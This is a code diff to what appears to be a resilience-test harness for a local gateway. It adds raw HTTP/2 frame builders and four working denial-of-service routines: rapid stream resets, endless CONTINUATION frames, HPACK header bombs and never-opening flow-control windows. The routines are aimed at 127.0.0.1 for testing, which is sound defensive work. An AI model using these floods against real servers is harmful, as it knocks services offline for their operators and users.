@@ -50,7 +50,7 @@ COSTLY = "4@8({[<3691!|70$5+%24@8({[<3691!|70$5+%2"
 GOOD, PROXY = ("127.0.0.9", 0), ("127.0.0.8", 0)
 
 CONFIG = """
-listeners: [{{address: "127.0.0.1:{port}"}}]
+listeners: [{{address: "127.0.0.1:{port}", http2: true}}]
 admin: {{address: "127.0.0.1:{admin}"}}
 workers: {workers}
 trusted_proxies: [127.0.0.8]
@@ -307,6 +307,80 @@ def slow_readers(gate, seconds):
     return f"{len(clients)} readers of 256 MiB each"
 
 
+# HTTP/2 (RFC 9113), frame by frame.
+
+DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 8, 9
+END_STREAM, END_HEADERS = 1, 4
+
+
+def frame(kind, flags, stream, payload=b""):
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def line(name, value):
+    return bytes([0, len(name)]) + name + bytes([len(value)]) + value
+
+
+def get(path):
+    # GET, http, and the path and the authority by their numbers in the static table (RFC 7541, appendix A).
+    return b"\x82\x86" + bytes([4, len(path)]) + path + b"\x01\x01b"
+
+
+def http2(gate, settings=b""):
+    client = socket.create_connection(("127.0.0.1", gate.port), 2)
+    client.settimeout(2)
+    client.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
+    return client
+
+
+def http2_flood(gate, seconds, batch):
+    """Sends what `batch` makes of a number, until the connection ends, and then on the next one."""
+    sent, connections, end = 0, 0, time.monotonic() + seconds
+    while time.monotonic() < end:
+        try:
+            with http2(gate) as client:
+                connections += 1
+                for number in range(10_000):
+                    client.sendall(batch(number))
+                    sent += 1
+                    if time.monotonic() >= end:
+                        break
+        except OSError:
+            pass
+    return f"{sent / seconds:.0f} batches/s on {connections / seconds:.0f} connections/s"
+
+
+def rapid_resets(gate, seconds):
+    def batch(number):
+        streams = range(1 + 200 * number, 201 + 200 * number, 2)
+        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, get(b"/pub/x"))
+                        + frame(RST_STREAM, 0, stream, bytes([0, 0, 0, 8])) for stream in streams)
+    return http2_flood(gate, seconds, batch)
+
+
+def continuations(gate, seconds):
+    part = frame(CONTINUATION, 0, 1, line(b"x-h", b"1")) * 100
+    return http2_flood(gate, seconds, lambda number: part if number else frame(HEADERS, END_STREAM, 1, get(b"/pub/x")))
+
+
+def bombs(gate, seconds):
+    # A line of 4,000 bytes in the dynamic table, and thousands of references to it.
+    bomb = get(b"/pub/x") + b"\x40\x01b\x7f\x81\x1e" + b"x" * 4_000
+    bomb += b"\xbe" * (16_000 - len(bomb))
+    return http2_flood(gate, seconds, lambda number: frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * number, bomb))
+
+
+def closed_windows(gate, seconds):
+    """Streams with a large response and no room for it."""
+    clients = [http2(gate, bytes([0, 4, 0, 0, 0, 0])) for _ in range(500)]
+    for client in clients:
+        for stream in range(1, 21, 2):
+            client.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, get(b"/pub/large")))
+    time.sleep(seconds)
+    [client.close() for client in clients]
+    return "500 connections of 10 streams"
+
+
 def burn(gate, seconds):
     """No attack: attackers' processors are busy, and none of them speaks to the gateway."""
     children = []
@@ -359,6 +433,10 @@ ATTACKS = {
     "A8 downloads at full speed": lambda g, s: wrk(g, s, 32, "GET", "/pub/large"),
     "A8 a slow upstream": lambda g, s: wrk(g, s, 400, "GET", "/slow/x"),
     "A9 a name that nobody knows": lambda g, s: wrk(g, s, 200, "GET", "/nameless/x"),
+    "A10 rapid resets of HTTP/2 streams": rapid_resets,
+    "A10 CONTINUATION without end": continuations,
+    "A10 header bombs": bombs,
+    "A10 windows that never open": closed_windows,
 }
 
 
